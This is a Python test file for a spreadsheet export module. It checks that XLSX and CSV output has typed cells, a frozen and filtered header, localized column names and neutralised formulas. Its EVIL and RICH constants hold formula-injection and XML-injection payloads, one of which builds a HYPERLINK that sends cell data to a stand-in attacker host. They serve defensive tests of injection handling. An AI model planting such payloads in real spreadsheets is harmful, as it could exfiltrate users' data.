"""The shared spreadsheet writer: typed cells, a frozen and filtered header, no formula ever handed to a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from decimal import Decimal

from python_calamine import CalamineWorkbook

from podium.core.i18n import Locale
from xlsxwriter.utility import _datetime_to_excel_datetime

from podium.core import sheets
from podium.core.sheets import Column, Kind, Sheet, csv_bytes, xlsx_bytes

COLUMNS = [
    Column("name", "Name", "名称"), Column("amount", "Amount", "金额", Kind.MONEY), Column("day", "Day", "日期", Kind.DATE),
    Column("at", "At", "时间", Kind.DATETIME), Column("share", "Share %", "占比 %", Kind.PERCENT), Column("count", "Count", "数量", Kind.INT),
    Column("rate", "Rate", "费率", Kind.DECIMAL),
]
EVIL = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
# xlsxwriter's own constant-memory flush writes this unescaped (a "rich string"): it would close the cell and add a formula.
RICH = '<r><t>x</t></r></is></c><c r="Z9"><f>HYPERLINK("https://evil.example")</f></c><c r="Z10" t="inlineStr"><is><r><t>y</t></r>'


async def rows() -> AsyncIterator[dict[str, object]]:
    for i, name in enumerate([*EVIL, RICH, "上海客户"]):
        yield {"name": name, "amount": Decimal("-1200.5") if i == 2 else Decimal("1800"), "day": date(2026, 3, 1),
               "at": datetime(2026, 3, 1, 16, 30, tzinfo=UTC), "share": Decimal("85.5"), "count": i, "rate": Decimal("3.000")}


async def test_xlsx_cells_are_typed_text_is_never_a_formula_and_the_header_is_frozen() -> None:
    data = await xlsx_bytes([Sheet("Customers", "客户", COLUMNS, rows())], Locale.ZH_CN, "Asia/Shanghai")
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet and "<autoFilter" in sheet and "<f>" not in sheet
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["客户"]
    header, *body = book.get_sheet_by_index(0).to_python()
    assert header == ["名称", "金额", "日期", "时间", "占比 %", "数量", "费率"]
    assert [r[0] for r in body] == [*EVIL, RICH, "上海客户"]  # text as given, a string cell
    first = body[0]
    assert first[1:] == [1800.0, date(2026, 3, 1), datetime(2026, 3, 2, 0, 30), 0.855, 0.0, 3.0]  # in Shanghai time
    assert body[2][1] == -1200.5
    assert "<v>1800.00</v>" in sheet and "<v>-1200.50</v>" in sheet  # the Decimal itself, two places, no float noise


async def test_csv_has_a_bom_neutralises_formulas_and_keeps_numbers_numbers() -> None:
    data = await csv_bytes([Sheet("A", "甲", COLUMNS, rows()), Sheet("B", "乙", COLUMNS[:1], [["x"]])], Locale.EN, "Asia/Shanghai")
    assert data.startswith("\ufeff".encode())
    header, *body = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert header == [c.en for c in COLUMNS]
    assert [r[0] for r in body[:6]] == ["'" + e for e in EVIL]
    assert body[0][1:] == ["1800.00", "2026-03-01", "2026-03-02 00:30:00", "85.5", "0", "3"]
    assert body[2][1] == "-1200.50"
    assert body[-3:] == [[], ["Name"], ["x"]]


ODD = ["  padded ", "a & b < c > d", "_x0041_ stays", "bell\x07 and tab\tkept", "line\nbreak", "\u2028sep"]


async def test_rows_given_in_batches_and_odd_text_come_back_exactly() -> None:
    """A sheet whose rows come a database batch at a time (as the customer export reads them), with text that
    needs escaping, whitespace kept and Excel's own _xHHHH_ escape, numbers and dates typed."""

    async def batches() -> AsyncIterator[list[list[object]]]:
        yield [[t, Decimal("1.005"), date(1900, 1, 1), datetime(2026, 3, 1, 12, tzinfo=UTC), Decimal("12.5"), 7, Decimal("0.10")] for t in ODD[:3]]
        yield []
        yield [[t, None, None, datetime(2026, 3, 1, 16, 30), "", None, 2.5] for t in ODD[3:]]

    data = await xlsx_bytes([Sheet("Odd", "奇怪", COLUMNS, batches(), batched=True)], Locale.EN, "Asia/Shanghai")
    header, *body = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in body] == ODD
    assert body[0][1:] == [1.0, date(1900, 1, 1), datetime(2026, 3, 1, 20, 0), 0.125, 7.0, 0.1]  # money 1.005 → 1.00 (half even)
    assert body[3][1:] == ["", "", datetime(2026, 3, 1, 16, 30), "", "", 2.5]  # a naive datetime is taken as local already
    text = await csv_bytes([Sheet("Odd", "奇怪", COLUMNS, batches(), batched=True)], Locale.EN, "Asia/Shanghai")
    assert [r[0] for r in list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))[1:]] == ODD


def test_serial_numbers_are_xlsxwriters_own() -> None:
    for moment in (datetime(1899, 12, 31, 6), datetime(1900, 1, 1), datetime(1900, 1, 1, 18), datetime(1900, 2, 28, 23, 59), datetime(1900, 3, 1),
                   datetime(2026, 3, 1, 16, 30, 0, 904560), datetime(9999, 12, 31, 23, 59, 59, 999999)):
        assert sheets._serial(moment - sheets._EPOCH) == _datetime_to_excel_datetime(moment, False, False)
        day = moment.date()
        assert sheets._serial(moment.replace(hour=0, minute=0, second=0, microsecond=0) - sheets._EPOCH, False) == _datetime_to_excel_datetime(day, False, False)
